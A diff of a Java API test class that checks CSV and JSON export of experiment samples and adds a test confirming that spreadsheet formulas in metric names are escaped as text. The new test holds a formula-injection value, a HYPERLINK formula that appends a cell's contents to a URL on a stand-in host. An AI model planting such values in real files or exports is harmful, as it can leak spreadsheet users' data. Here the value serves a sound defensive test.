@@ -341,11 +341,44 @@ class UploadApiTests extends UploadServer {
         assertThat(storedSum).isCloseTo(expectedSum, org.assertj.core.data.Offset.offset(1e-6));
         // the runs read back are the values' positions, per side
         java.util.Set<Integer> runs = new java.util.HashSet<>();
-        read(get("/api/v1/experiments/" + id + "/samples").body()).forEach(row -> runs.add(row.get("ordinal").asInt()));
+        JsonNode rows = read(get("/api/v1/experiments/" + id + "/samples").body());
+        rows.forEach(row -> runs.add(row.get("ordinal").asInt()));
         assertThat(runs).hasSize(2 * values);
+        // every sample once, an upload's metric by metric (each side's runs in order within a metric)
+        assertThat(rows).hasSize(2 * 3 * values);
+        double exportedSum = 0;
+        for (JsonNode row : rows) {
+            exportedSum += row.get("value").asDouble();
+        }
+        assertThat(exportedSum).isCloseTo(expectedSum, org.assertj.core.data.Offset.offset(1e-6));
+        assertThat(rows.get(0).get("metric").asString()).isEqualTo("m0");
+        assertThat(rows.get(2 * values).get("metric").asString()).isEqualTo("m1");
+        HttpResponse<String> csv = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/experiments/" + id
+                + "/samples")).header("Accept", "text/csv").GET().build(), HttpResponse.BodyHandlers.ofString());
+        assertThat(csv.body().lines()).hasSize(1 + 2 * 3 * values).first()
+                .isEqualTo("experiment,variant,run,metric,value,unit");
         // the response's comparison is the one computed again from the stored rows
         JsonNode stored = read(get("/api/v1/experiments/" + id).body());
         assertThat(stored.get("results")).isEqualTo(result.get("comparison"));
+    }
+
+    @Test
+    void aMetricNameASpreadsheetWouldRunIsExportedAsText() throws Exception {
+        long id = upload("?format=csv&benchmark=formulas", "text/csv", """
+                metric,value,variant,unit
+                "=HYPERLINK(""http://example.invalid/?""&A1,""x"")",1,without,ns
+                @SUM(1+1),2,without,-ns
+                plain,3,without,ns
+                """).get("experimentId").asLong();
+        HttpResponse<String> csv = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/experiments/" + id
+                + "/samples")).header("Accept", "text/csv").GET().build(), HttpResponse.BodyHandlers.ofString());
+        assertThat(csv.body().lines()).contains(
+                id + ",without,0,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",1.0,ns",
+                id + ",without,0,'@SUM(1+1),2.0,'-ns",
+                id + ",without,0,plain,3.0,ns");
+        // the JSON keeps the names as they are
+        assertThat(read(get("/api/v1/experiments/" + id + "/samples").body()).findValuesAsString("metric"))
+                .contains("@SUM(1+1)");
     }
 
     // ---- bad input: status, message, and nothing stored ----
